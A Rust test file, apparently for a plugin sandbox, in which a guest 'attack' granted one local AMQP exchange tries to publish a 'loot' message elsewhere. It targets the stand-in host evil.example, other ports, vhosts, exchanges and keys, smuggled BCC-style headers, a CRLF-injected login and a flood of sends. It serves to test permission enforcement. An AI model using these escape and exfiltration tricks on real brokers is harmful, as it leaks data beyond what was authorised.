//! Publishes to brokers, exchanges and keys that are not its own, by every field that could lead there.

use guest_kit::{
    Attack, ConfigOption, Notification, Receipt, SendError, Want, amqp, attack, option, report, want,
};

struct PublishesElsewhere;

fn server(port: u16) -> amqp::Server {
    amqp::Server { host: "127.0.0.1".into(), port, tls: false, vhost: "/".into(), login: None }
}

fn message() -> amqp::Message {
    amqp::Message {
        exchange: "alerts".into(),
        routing_key: "db".into(),
        content_type: String::new(),
        headers: Vec::new(),
        body: b"loot".to_vec(),
        persistent: true,
        mandatory: true,
    }
}

fn tried(name: &str, server: amqp::Server, message: amqp::Message) -> String {
    tried_by(name, &amqp::Broker::Server(server), &message)
}

fn tried_by(name: &str, broker: &amqp::Broker, message: &amqp::Message) -> String {
    match amqp::publish(broker, message) {
        Ok(()) => format!("{name} => published"),
        Err(error) => format!("{name} => {}: {}", error.code, error.message),
    }
}

impl Attack for PublishesElsewhere {
    const NAME: &'static str = "publishes-elsewhere";

    fn wants() -> Vec<Want> {
        vec![want("amqp", "amqp://127.0.0.1:{port}/ exchange:alerts key:db")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("port", "number")]
    }

    /// `event.message` is the granted port. Nobody listens there.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let port: u16 = notification.event.message.parse().expect("a port");
        let header = |name: &str| vec![(name.to_owned(), "all".to_owned())];
        let login = Some(amqp::Login { user: "a\r\nb".into(), password: "none".into() });
        let said = [
            tried("another broker", amqp::Server { host: "evil.example".into(), ..server(port) }, message()),
            tried("another port", server(port.wrapping_add(1)), message()),
            tried("another vhost", amqp::Server { vhost: "shop".into(), ..server(port) }, message()),
            tried("with TLS", amqp::Server { tls: true, ..server(port) }, message()),
            tried("another exchange", server(port), amqp::Message { exchange: String::new(), ..message() }),
            tried("another key", server(port), amqp::Message { routing_key: "db.x".into(), ..message() }),
            tried("a copy", server(port), amqp::Message { headers: header("BCC"), ..message() }),
            tried("a history", server(port), amqp::Message { headers: header("x-death"), ..message() }),
            tried(
                "a crowd of headers",
                server(port),
                amqp::Message { headers: header("a").repeat(33), ..message() },
            ),
            tried("a large body", server(port), amqp::Message { body: vec![0; 300 << 10], ..message() }),
            tried("a bad login", amqp::Server { login, ..server(port) }, message()),
            tried_by("a name", &amqp::Broker::Named("default".into()), &message()),
        ];
        let mut flood: Vec<_> = (0..12).map(|_| tried("one more", server(port), message())).collect();
        flood.dedup();
        report([&said[..], &flood].concat().join("\n"))
    }
}

attack!(PublishesElsewhere);
